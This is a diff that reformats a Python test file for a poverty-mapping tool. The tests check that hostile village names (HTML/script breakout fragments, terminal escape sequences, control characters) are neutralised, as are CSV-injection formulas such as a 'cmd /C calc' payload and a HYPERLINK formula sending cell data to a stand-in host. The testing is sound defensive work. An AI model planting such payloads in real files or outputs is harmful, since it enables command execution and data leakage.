@@ -51,9 +51,15 @@ GCO = "{http://www.isotc211.org/2005/gco}"
 SLD = "{http://www.opengis.net/sld}"
 
 
-def lahat_with(names: tuple[str, ...], tmp: Path, *, kecamatan: str | None = None,
-               kabupaten: str | None = None, unmatched: str | None = None,
-               counts_name: str = "jumlah.csv") -> tuple[Path, Path, pd.DataFrame]:
+def lahat_with(
+    names: tuple[str, ...],
+    tmp: Path,
+    *,
+    kecamatan: str | None = None,
+    kabupaten: str | None = None,
+    unmatched: str | None = None,
+    counts_name: str = "jumlah.csv",
+) -> tuple[Path, Path, pd.DataFrame]:
     """Lahat with ``names`` on desa of a poor cluster (two kecamatan); boundary and counts paths.
 
     The first poor kecamatan is renamed ``kecamatan``, the kabupaten ``kabupaten``; a desa
@@ -63,9 +69,10 @@ def lahat_with(names: tuple[str, ...], tmp: Path, *, kecamatan: str | None = Non
     counts = make_counts(raw, seed=3)
     poor_kec = sorted(raw["kode_kec"].unique())[:2]
     hot = raw["kode_kec"].isin(poor_kec).to_numpy()
-    counts.loc[hot, "jumlah_miskin_ekstrem"] = (counts.loc[hot, "jumlah_penduduk"] * 0.3
-                                                 ).astype(int)
-    hot_rows = raw.index[hot][:len(names)]
+    counts.loc[hot, "jumlah_miskin_ekstrem"] = (counts.loc[hot, "jumlah_penduduk"] * 0.3).astype(
+        int
+    )
+    hot_rows = raw.index[hot][: len(names)]
     raw.loc[hot_rows, "nama"] = list(names)
     counts.loc[hot_rows, "nama_desa"] = list(names)
     if kecamatan:
@@ -150,8 +157,14 @@ def script_vars(page: str) -> dict[str, object]:
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory):
     tmp = tmp_path_factory.mktemp("hostile")
-    boundaries, counts, raw = lahat_with(NAMES, tmp, kecamatan=KECAMATAN, kabupaten=KABUPATEN,
-                                         unmatched=UNMATCHED, counts_name=COUNTS_NAME)
+    boundaries, counts, raw = lahat_with(
+        NAMES,
+        tmp,
+        kecamatan=KECAMATAN,
+        kabupaten=KABUPATEN,
+        unmatched=UNMATCHED,
+        counts_name=COUNTS_NAME,
+    )
     return tmp, boundaries, counts, raw
 
 
@@ -159,8 +172,22 @@ def hostile(tmp_path_factory):
 def html_map(hostile):
     tmp, boundaries, counts, _ = hostile
     out = tmp / "peta.html"
-    cli("map", boundaries, counts, "-o", out, "--kantong", "--tiles", "none", "--title", TITLE,
-        "--source", SOURCE, "--vintage", VINTAGE)
+    cli(
+        "map",
+        boundaries,
+        counts,
+        "-o",
+        out,
+        "--kantong",
+        "--tiles",
+        "none",
+        "--title",
+        TITLE,
+        "--source",
+        SOURCE,
+        "--vintage",
+        VINTAGE,
+    )
     return out
 
 
@@ -201,8 +228,21 @@ def test_html_map_shows_every_text_literally(html_map):
 def test_static_titles_and_names_are_not_mathematics(hostile, tmp_path):
     _, boundaries, counts, _ = hostile
     with matplotlib.rc_context({"pdf.compression": 0}):
-        cli("map", boundaries, counts, "-o", tmp_path / "peta.pdf", "--atlas",
-            tmp_path / "atlas.pdf", "--title", TITLE, "--source", SOURCE, "--vintage", VINTAGE)
+        cli(
+            "map",
+            boundaries,
+            counts,
+            "-o",
+            tmp_path / "peta.pdf",
+            "--atlas",
+            tmp_path / "atlas.pdf",
+            "--title",
+            TITLE,
+            "--source",
+            SOURCE,
+            "--vintage",
+            VINTAGE,
+        )
     page = " ".join(pdf_texts(tmp_path / "peta.pdf"))
     assert TITLE in page and SOURCE in page and VINTAGE in page
     # The overview drops names that would collide (largest kecamatan first), so the hostile one
@@ -217,9 +257,12 @@ def test_static_titles_and_names_are_not_mathematics(hostile, tmp_path):
 
     result = run(boundaries, counts, Options())
     # Haloed labels reach the PDF as outlines, not text: check what the pages drew them with.
-    placed = {t.get_text(): t for fig in atlas_pages(result.classified(),
-                                                      kecamatan=result.layers["kecamatan"])
-              for t in fig.findobj(Text) if t.get_gid() == LABEL_GID}
+    placed = {
+        t.get_text(): t
+        for fig in atlas_pages(result.classified(), kecamatan=result.layers["kecamatan"])
+        for t in fig.findobj(Text)
+        if t.get_gid() == LABEL_GID
+    }
     shown = [name for name in NAMES if name in placed]
     assert len(shown) >= len(NAMES) // 2, shown
     for name in shown:
@@ -233,8 +276,9 @@ def test_static_png_draws_texts_as_written(hostile):
 
     _, boundaries, counts, _ = hostile
     result = run(boundaries, counts, Options())
-    fig = static_map(result.classified(), kecamatan=result.layers["kecamatan"], title=TITLE,
-                     source=SOURCE)
+    fig = static_map(
+        result.classified(), kecamatan=result.layers["kecamatan"], title=TITLE, source=SOURCE
+    )
     texts = {t.get_text(): t for t in fig.findobj(Text) if t.get_text()}
     for text in (TITLE, KECAMATAN):
         assert text in texts
@@ -245,12 +289,27 @@ def test_static_png_draws_texts_as_written(hostile):
 def bundle(hostile):
     tmp, boundaries, counts, _ = hostile
     meta = tmp / "meta.toml"
-    meta.write_text(f"organisasi = {json.dumps(ORGANISASI)}\n"
-                    f"kata_kunci = [{json.dumps(NAMES[0])}, {json.dumps(NAMES[5])}]\n",
-                    encoding="utf-8")
+    meta.write_text(
+        f"organisasi = {json.dumps(ORGANISASI)}\n"
+        f"kata_kunci = [{json.dumps(NAMES[0])}, {json.dumps(NAMES[5])}]\n",
+        encoding="utf-8",
+    )
     out = tmp / "bundel"
-    cli("export", boundaries, counts, "-o", out, "--format", "geojson,gpkg,shp", "--title",
-        TITLE, "--vintage", VINTAGE, "--metadata", meta)
+    cli(
+        "export",
+        boundaries,
+        counts,
+        "-o",
+        out,
+        "--format",
+        "geojson,gpkg,shp",
+        "--title",
+        TITLE,
+        "--vintage",
+        VINTAGE,
+        "--metadata",
+        meta,
+    )
     return out
 
 
@@ -297,7 +356,7 @@ def test_pockets_ranking_holds_names_literally(hostile, suffix):
     tmp, boundaries, counts, _ = hostile
     ranking = tmp / f"peringkat{suffix}"
     cli("pockets", boundaries, counts, "-o", tmp / "kantong.geojson", "--ranking", ranking)
-    table = (pd.read_csv(ranking) if suffix == ".csv" else pd.read_excel(ranking))
+    table = pd.read_csv(ranking) if suffix == ".csv" else pd.read_excel(ranking)
     assert set(NAMES) <= set(table["nama_desa"])
     flagged = pyogrio.read_dataframe(tmp / "kantong.geojson", read_geometry=False)
     assert len(set(NAMES) & set(flagged["nama_desa"])) >= 5
@@ -309,14 +368,17 @@ def test_browser_shows_names_as_text_and_runs_nothing(browser, html_map):
     dialogs, errors = [], []
     page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
     page.on("pageerror", lambda exc: errors.append(str(exc)))
-    page.route("**/*", lambda r: r.continue_() if r.request.url.startswith(("file:", "data:"))
-               else r.abort())
+    page.route(
+        "**/*",
+        lambda r: r.continue_() if r.request.url.startswith(("file:", "data:")) else r.abort(),
+    )
     page.goto(html_map.as_uri(), wait_until="load")
     page.wait_for_timeout(300)
     assert page.locator(".povmap-title").inner_text() == TITLE
     for name in NAMES:
         # Hover the desa through Leaflet's API (canvas paths have no DOM element to hover).
-        page.evaluate("""(name) => {
+        page.evaluate(
+            """(name) => {
             for (const v of Object.values(window)) {
                 if (!(v instanceof L.GeoJSON) || !v._map) continue;
                 for (const l of v.getLayers()) {
@@ -330,11 +392,13 @@ def test_browser_shows_names_as_text_and_runs_nothing(browser, html_map):
                     }
                 }
             }
-        }""", name)
+        }""",
+            name,
+        )
         assert name in page.locator(".leaflet-tooltip").last.inner_text()
     search = page.locator(".leaflet-control-search input.search-input")
     tips = page.locator(".leaflet-control-search .search-tip")
-    for query, name in (("Desa {", NAMES[0]), ("</scr", NAMES[3]), ('"\'>', NAMES[4])):
+    for query, name in (("Desa {", NAMES[0]), ("</scr", NAMES[3]), ("\"'>", NAMES[4])):
         search.fill("")
         search.press_sequentially(query)
         tip = tips.filter(has_text=f"{name}, {KECAMATAN}").first
@@ -343,18 +407,23 @@ def test_browser_shows_names_as_text_and_runs_nothing(browser, html_map):
     search.fill("")
     options = page.locator(".povmap-zoom select option").all_inner_texts()
     assert KECAMATAN in options
-    assert page.locator(".leaflet-tooltip img, .povmap-title script, .leaflet-popup img"
-                        ).count() == 0
+    assert (
+        page.locator(".leaflet-tooltip img, .povmap-title script, .leaflet-popup img").count() == 0
+    )
     assert dialogs == [] and errors == []
     page.close()
-
 
 
 # --- kind 3: spreadsheet formulas ------------------------------------------------------------
 
 #: Names a spreadsheet would run (OWASP CSV Injection).
-FORMULAS = ("=1+2 Desa", "+SUM(A1:A9)", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
-            '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")')
+FORMULAS = (
+    "=1+2 Desa",
+    "+SUM(A1:A9)",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
+)
 #: A tab or carriage return in front: the boundary reader trims them, a layer built in Python
 #: keeps them.
 FORMULAS_WS = ("\t=1+1", "\r=2+2")
@@ -367,8 +436,15 @@ def formula_pockets(tmp_path_factory):
     paths = {}
     for suffix in (".csv", ".xlsx"):
         paths[suffix] = tmp / f"peringkat{suffix}"
-        cli("pockets", boundaries, counts, "-o", tmp / f"kantong{suffix}.geojson", "--ranking",
-            paths[suffix])
+        cli(
+            "pockets",
+            boundaries,
+            counts,
+            "-o",
+            tmp / f"kantong{suffix}.geojson",
+            "--ranking",
+            paths[suffix],
+        )
     return paths, boundaries, counts
 
 
@@ -443,13 +519,29 @@ def test_tab_and_cr_names_are_neutralised_too(formula_pockets, tmp_path):
 def test_data_dictionary_neutralises_text_cells(tmp_path):
     from povmap.export.kugi import write_dictionary
 
-    rows = [{"lapisan": "desa", "field": "=1+2", "tipe": "String", "satuan": "-",
-             "keterangan": "@cmd", "sumber": "Tabel jumlah (+x.csv)"}]
+    rows = [
+        {
+            "lapisan": "desa",
+            "field": "=1+2",
+            "tipe": "String",
+            "satuan": "-",
+            "keterangan": "@cmd",
+            "sumber": "Tabel jumlah (+x.csv)",
+        }
+    ]
     path = write_dictionary(tmp_path / "kamus.csv", rows)
     with open(path, encoding="utf-8-sig", newline="") as f:
         written = list(csv.DictReader(f))
-    assert written == [{"lapisan": "desa", "field": "'=1+2", "tipe": "String", "satuan": "-",
-                        "keterangan": "'@cmd", "sumber": "Tabel jumlah (+x.csv)"}]
+    assert written == [
+        {
+            "lapisan": "desa",
+            "field": "'=1+2",
+            "tipe": "String",
+            "satuan": "-",
+            "keterangan": "'@cmd",
+            "sumber": "Tabel jumlah (+x.csv)",
+        }
+    ]
 
 
 # --- kind 4: characters XML 1.0 forbids ------------------------------------------------------
@@ -464,8 +556,11 @@ def _parse_every_xml(folder: Path) -> dict[str, ET.Element]:
     """Parse every XML file of a bundle folder and of its shapefile zips (raises if one fails)."""
     import zipfile
 
-    parsed = {p.name: ET.parse(p).getroot()
-              for p in sorted(folder.iterdir()) if p.suffix in (".xml", ".sld", ".qml")}
+    parsed = {
+        p.name: ET.parse(p).getroot()
+        for p in sorted(folder.iterdir())
+        if p.suffix in (".xml", ".sld", ".qml")
+    }
     for archive in folder.glob("*.zip"):
         with zipfile.ZipFile(archive) as z:
             for name in z.namelist():
@@ -477,14 +572,36 @@ def _parse_every_xml(folder: Path) -> dict[str, ET.Element]:
 def test_xml_outputs_parse_with_control_characters_in_options_and_metadata(tmp_path):
     boundaries, counts, _ = lahat_with((), tmp_path, kabupaten="Lahat\x0bKab")
     meta = tmp_path / "meta.toml"
-    meta.write_text('organisasi = "Dinas\\u000bSosial"\njudul = "Judul\\u0001"\n'
-                    'kata_kunci = ["a\\u0002b"]\nlisensi = "CC\\u001fBY"\n', encoding="utf-8")
+    meta.write_text(
+        'organisasi = "Dinas\\u000bSosial"\njudul = "Judul\\u0001"\n'
+        'kata_kunci = ["a\\u0002b"]\nlisensi = "CC\\u001fBY"\n',
+        encoding="utf-8",
+    )
     out = tmp_path / "bundel"
-    cli("export", boundaries, counts, "-o", out, "--format", "geojson,gpkg,shp", "--metadata",
-        meta, "--title", "Peta\x0bKemiskinan", "--vintage", "P3KE\x032024")
+    cli(
+        "export",
+        boundaries,
+        counts,
+        "-o",
+        out,
+        "--format",
+        "geojson,gpkg,shp",
+        "--metadata",
+        meta,
+        "--title",
+        "Peta\x0bKemiskinan",
+        "--vintage",
+        "P3KE\x032024",
+    )
     parsed = _parse_every_xml(out)
-    assert {"desa.xml", "kecamatan.xml", "desa.sld", "desa.qml", "desa_shp.zip/desa.xml",
-            "desa_shp.zip/desa.sld"} <= set(parsed)
+    assert {
+        "desa.xml",
+        "kecamatan.xml",
+        "desa.sld",
+        "desa.qml",
+        "desa_shp.zip/desa.xml",
+        "desa_shp.zip/desa.sld",
+    } <= set(parsed)
     texts = [e.text for e in parsed["desa.xml"].iter(f"{GCO}CharacterString")]
     assert "Dinas Sosial" in texts and "Judul" in texts and "ab" in texts
     assert "CC BY" in texts and "P3KE2024" in texts
@@ -508,8 +625,12 @@ def test_xml_outputs_parse_with_control_characters_in_names(formula_pockets, tmp
     out = tmp_path / "bundel"
     # The desa layer keeps its classes (styles are written), the kecamatan layer goes unstyled.
     classified = dataclasses.replace(result.classified(), gdf=desa)
-    export({"desa": classified, "kecamatan": kecamatan}, out, formats=("geojson", "shp"),
-           title="Judul\x0c2024")
+    export(
+        {"desa": classified, "kecamatan": kecamatan},
+        out,
+        formats=("geojson", "shp"),
+        title="Judul\x0c2024",
+    )
     parsed = _parse_every_xml(out)
     assert {"desa.xml", "desa.sld", "desa.qml", "kecamatan.xml"} <= set(parsed)
     texts = [e.text for e in parsed["desa.xml"].iter(f"{GCO}CharacterString")]
@@ -527,8 +648,12 @@ def test_xlsx_ranking_with_control_characters(formula_pockets, tmp_path):
     result = _pockets_of_layer(boundaries, counts, dict(enumerate(CONTROL_NAMES)))
     ranking = tmp_path / "peringkat.xlsx"
     write_pockets(result, tmp_path / "k.gpkg", ranking=ranking)
-    names = {c.value for row in openpyxl.load_workbook(ranking).active.iter_rows()
-             for c in row if isinstance(c.value, str)}
+    names = {
+        c.value
+        for row in openpyxl.load_workbook(ranking).active.iter_rows()
+        for c in row
+        if isinstance(c.value, str)
+    }
     assert set(CLEANED) <= names
 
 
@@ -540,17 +665,20 @@ ESCAPE_NAME = "Desa\x1b]0;DIAMBIL\x07\x1b[2J"
 def test_terminal_shows_escape_sequences_instead_of_running_them(tmp_path):
     boundaries, counts, _ = lahat_with((), tmp_path)
     table = pd.read_csv(counts, dtype={"kode_wilayah": str})
-    extra = table.iloc[[0]].assign(kode_wilayah="16.04.99.2999", nama_desa=ESCAPE_NAME,
-                                   nama_kecamatan="Kec\x1b[31mMerah")
+    extra = table.iloc[[0]].assign(
+        kode_wilayah="16.04.99.2999", nama_desa=ESCAPE_NAME, nama_kecamatan="Kec\x1b[31mMerah"
+    )
     pd.concat([table, extra]).to_csv(counts, index=False)
-    result = CliRunner().invoke(main, ["join", str(boundaries), str(counts), "-o",
-                                       str(tmp_path / "gabung.gpkg")])
+    result = CliRunner().invoke(
+        main, ["join", str(boundaries), str(counts), "-o", str(tmp_path / "gabung.gpkg")]
+    )
     assert result.exit_code == 0, result.output
     assert "baris" in result.output and "16.04.99.2999" in result.output  # the row is reported
     assert "\x1b" not in result.output and "\x07" not in result.output
     assert "\\x1b]0;DIAMBIL\\x07" in result.output
     missing = tmp_path / "tidak\x1b]0;ada\x07.csv"
-    result = CliRunner().invoke(main, ["join", str(boundaries), str(missing), "-o",
-                                       str(tmp_path / "x.gpkg")])
+    result = CliRunner().invoke(
+        main, ["join", str(boundaries), str(missing), "-o", str(tmp_path / "x.gpkg")]
+    )
     assert result.exit_code == 1
     assert "\x1b" not in result.output and "tidak\\x1b]0;ada\\x07.csv" in result.output
